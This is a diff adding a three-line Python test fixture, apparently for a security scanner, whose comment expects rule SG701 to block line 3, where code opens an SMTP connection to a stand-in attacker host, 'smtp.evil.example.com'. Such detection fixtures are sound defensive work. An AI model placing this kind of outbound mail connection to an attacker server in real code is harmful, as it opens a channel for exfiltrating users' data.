@@ -1,0 +1,3 @@
+# expect: block SG701@3
+import smtplib
+server = smtplib.SMTP("smtp.evil.example.com", 25)
